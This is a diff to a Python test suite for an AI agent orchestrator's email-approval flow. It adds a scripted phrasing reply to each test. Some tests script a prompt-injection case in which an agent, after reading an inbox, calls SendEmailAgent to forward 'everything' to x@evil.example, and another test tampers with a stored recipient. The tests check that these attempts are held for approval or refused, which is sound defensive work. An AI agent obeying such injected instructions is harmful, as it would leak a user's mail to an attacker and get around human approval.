@@ -20,12 +20,13 @@ from orchestrator.types import RunStatus
 from pool.models import AgentPoolEntry
 from tests.approvals.conftest import INJECTION
 from tests.llm_server import text, tool_calls
-from tests.pool.conftest import assert_valid_tool_ordering
+from tests.pool.conftest import assert_phrasing_request, assert_valid_tool_ordering
 
 pytestmark = [pytest.mark.django_db(transaction=True)]
 
 ALICE = {"recipient": "alice@example.com", "subject": "Lunch", "body": "Lunch at noon on Friday?"}
 BOB = {"recipient": "bob@example.com", "subject": "Report", "body": "The report is attached in spirit."}
+PHRASED = "Shall I go ahead and send it?"  # the scripted phrasing of a waiting agent's question
 
 
 def ask(orch: Any, user: Any, content: str, conversation: str | None = None, source: str = "web") -> Any:
@@ -35,7 +36,8 @@ def ask(orch: Any, user: Any, content: str, conversation: str | None = None, sou
 
 
 def two_emails(orch: Any, llm_server: Any, user: Any) -> Any:
-    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE), ("call_b", "SendEmailAgent", BOB)))
+    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE), ("call_b", "SendEmailAgent", BOB)),
+                      text(PHRASED))
     return ask(orch, user, "email Alice about lunch and Bob about the report")
 
 
@@ -45,6 +47,9 @@ def test_two_approvals_of_one_turn_are_shown_together(orchestrator: Any, llm_ser
     result = outcome.result
     assert result.status == RunStatus.WAITING_FOR_APPROVAL
     assert [a["arguments"] for a in result.pending_approvals] == [ALICE, BOB]
+    # Both agents' questions go to the phrasing call together; clients keep the structured data.
+    assert_phrasing_request(llm_server.requests[-1], result.interruption.prompt)
+    assert result.response == PHRASED and len(result.interruption.prompt.split("\n\n")) == 2
     assert result.pending_approvals[0]["details"]["body_preview"] == ALICE["body"]
     rows = list(ApprovalRequest.objects.order_by("created_at"))
     assert len(rows) == 2 and {str(r.run_id) for r in rows} == {outcome.run_id}
@@ -97,7 +102,7 @@ def test_approve_one_via_rest_and_edit_the_other_on_the_page(orchestrator: Any, 
 
 def test_cancel_tells_the_llm_and_it_answers(orchestrator: Any, llm_server: Any, user: Any,
                                              smtp_inbox: Any) -> None:
-    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)))
+    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)), text(PHRASED))
     outcome = ask(orchestrator, user, "email Alice")
     [pending] = outcome.result.pending_approvals
     llm_server.script(text("Understood, I did not send it."))
@@ -111,7 +116,7 @@ def test_cancel_tells_the_llm_and_it_answers(orchestrator: Any, llm_server: Any,
 
 
 def test_chat_yes_approves_a_single_request(orchestrator: Any, llm_server: Any, user: Any, smtp_inbox: Any) -> None:
-    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)))
+    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)), text(PHRASED))
     outcome = ask(orchestrator, user, "email Alice")
     llm_server.script(text("Sent!"))
     done = ask(orchestrator, user, "yes please", outcome.conversation_id)
@@ -173,7 +178,7 @@ def test_double_approve_expired_and_cross_tenant(orchestrator: Any, llm_server: 
 
 def test_edit_is_limited_to_editable_fields_and_validated(orchestrator: Any, llm_server: Any, user: Any,
                                                           api_client: Any, smtp_inbox: Any) -> None:
-    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)))
+    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)), text(PHRASED))
     [pending] = ask(orchestrator, user, "email Alice").result.pending_approvals
     url = f"/api/v1/approvals/{pending['approval_id']}/decision"
     bad = api_client.post(url, {"decision": "edit", "changes": {"recipient": "nobody"}}, format="json")
@@ -186,7 +191,7 @@ def test_edit_is_limited_to_editable_fields_and_validated(orchestrator: Any, llm
 def test_changed_arguments_after_approval_are_refused(orchestrator: Any, llm_server: Any, user: Any,
                                                       smtp_inbox: Any) -> None:
     """The paused agent's stored fields are altered after the user saw them: hash mismatch, nothing sent."""
-    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)))
+    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)), text(PHRASED))
     [pending] = ask(orchestrator, user, "email Alice").result.pending_approvals
     entry = AgentPoolEntry.objects.get()
     entry.collected_fields = {**entry.collected_fields, "recipient": "x@evil.example"}
@@ -201,24 +206,26 @@ def test_changed_arguments_after_approval_are_refused(orchestrator: Any, llm_ser
 
 def test_llm_calling_again_with_another_recipient_gets_a_new_request(orchestrator: Any, llm_server: Any,
                                                                      user: Any, smtp_inbox: Any) -> None:
-    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)))
+    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)), text(PHRASED))
     [pending] = ask(orchestrator, user, "email Alice").result.pending_approvals
-    llm_server.script(tool_calls(("call_x", "SendEmailAgent", {**ALICE, "recipient": "x@evil.example"})))
+    llm_server.script(tool_calls(("call_x", "SendEmailAgent", {**ALICE, "recipient": "x@evil.example"})),
+                      text(PHRASED))
     services.approval_decide(owner_id=user.pk, request_id=pending["approval_id"], decision="approve",
                              channel="rest", actor_id=user.pk)
     assert smtp_inbox.summary() == [(ALICE["recipient"], ALICE["subject"], ALICE["body"])]
     fresh = ApprovalRequest.objects.get(status="pending")
     assert fresh.details["recipient"] == "x@evil.example"
-    assert LoopRun.objects.get(source="approval").status == RunStatus.WAITING_FOR_APPROVAL
+    continuation = LoopRun.objects.get(source="approval")
+    assert continuation.status == RunStatus.WAITING_FOR_APPROVAL and continuation.response == PHRASED
 
 
 def test_injected_instruction_gets_at_most_an_honest_request(orchestrator: Any, llm_server: Any, user: Any,
                                                              smtp_inbox: Any) -> None:
     evil = {"recipient": "x@evil.example", "subject": "Fwd: everything", "body": "all of it"}
     llm_server.script(tool_calls(("r1", "read_inbox", {})),
-                      tool_calls(("s1", "SendEmailAgent", evil)))
+                      tool_calls(("s1", "SendEmailAgent", evil)), text(PHRASED))
     outcome = ask(orchestrator, user, "summarise my newest email")
-    assert INJECTION in llm_server.requests[-1].messages[-1]["content"]
+    assert INJECTION in llm_server.requests[1].messages[-1]["content"]
     assert outcome.result.status == RunStatus.WAITING_FOR_APPROVAL
     [pending] = outcome.result.pending_approvals
     assert pending["arguments"] == evil and pending["action_summary"] == "Send email to x@evil.example"
@@ -236,7 +243,7 @@ def test_users_stored_smtp_account_is_used(orchestrator: Any, llm_server: Any, u
     async_to_sync(CredentialStore().save)(user.pk, "smtp", {"host": "127.0.0.1", "port": port, "username": "",
                                                             "password": "", "use_tls": False,
                                                             "from": "me@example.test"})
-    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)))
+    llm_server.script(tool_calls(("call_a", "SendEmailAgent", ALICE)), text(PHRASED))
     [pending] = ask(orchestrator, user, "email Alice").result.pending_approvals
     llm_server.script(text("Sent."))
     services.approval_decide(owner_id=user.pk, request_id=pending["approval_id"], decision="approve",
